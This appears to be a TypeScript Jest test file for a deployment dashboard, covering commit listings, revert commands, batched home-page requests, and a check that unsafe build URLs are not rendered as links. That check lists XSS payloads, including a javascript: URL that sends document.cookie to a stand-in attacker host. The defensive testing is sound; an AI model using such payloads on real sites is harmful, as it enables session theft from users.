import { describe, expect, it } from '@jest/globals';
import { commitsSection } from './commits.js';
import type { CommitSummary, Data } from './data.js';
import { homePage } from './pages.js';

const items: CommitSummary[] = [
  { service: 'search', commit: 'c'.repeat(40), message: 'Newest <b>', author: 'Eve', runningIn: [] },
  {
    service: 'search',
    commit: 'b'.repeat(40),
    message: 'Faster ranking',
    author: 'Dev',
    build: { status: 'failed', url: 'https://ci.example.com/runs/2' },
    version: '1.1.0',
    runningIn: ['prod'],
  },
  { service: 'search', commit: 'a'.repeat(40), message: 'First', author: 'Dev', runningIn: ['staging'] },
];

describe('Recent commits', () => {
  it('shows each commit with its build link, where it runs and the command that reverts it', () => {
    const text = commitsSection(items).text;
    expect(text).toContain('<a href="https://ci.example.com/runs/2">failed</a>');
    expect(text).toContain('Newest &lt;b&gt;');
    // prod runs b…: b and everything before it can be reverted there; staging runs a…, the oldest.
    expect(text).not.toContain(`slipway revert search prod ${'c'.repeat(12)}`);
    expect(text).toContain(`slipway revert search prod ${'b'.repeat(12)}`);
    expect(text).toContain(`slipway revert search prod ${'a'.repeat(12)}`);
    expect(text).toContain(`slipway revert search staging ${'a'.repeat(12)}`);
    expect(text).not.toContain(`slipway revert search staging ${'b'.repeat(12)}`);
  });
});

describe('a build link a ci token stored (#24 attack 5)', () => {
  it('is a link only when it is http(s): a javascript: or data: URL is shown as text, never as an href', () => {
    for (const url of [
      'javascript:fetch(`//evil.example/${document.cookie}`)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<script>1</script>',
    ]) {
      const text = commitsSection([{ ...items[1]!, build: { status: 'failed', url } }]).text;
      expect(text).not.toMatch(/href="(javascript|data):/i);
      expect(text).toContain('failed');
    }
  });
});

describe('the home page at a catalog of many services (issue 28)', () => {
  it('reads the recent commits of every service in one request, not one request a service', async () => {
    const calls: string[] = [];
    const clusters = Array.from({ length: 200 }, (_, i) => ({
      service: `svc${Math.floor(i / 4)}`,
      env: `prod-${i % 4}`,
      active: null,
      retained: [],
      health: { healthy: 0, instances: 0 },
    }));
    const answers: Record<string, unknown> = {
      deployments: [],
      clusterList: { items: clusters.slice(0, 20), total: clusters.length, needingAttention: clusters.length },
      recentCommits: [{ ...items[0]!, service: 'svc7' }],
      commits: [],
    };
    const data = new Proxy({} as Data, {
      get: (_, name: string) => async () => {
        calls.push(name);
        return answers[name];
      },
    });
    const text = (await homePage(data)).text;
    expect(text).toContain('Newest &lt;b&gt;');
    expect(text).toContain('<a href="/services/svc7">svc7</a>');
    expect(calls.sort()).toEqual(['clusterList', 'deployments', 'recentCommits']);
  });
});
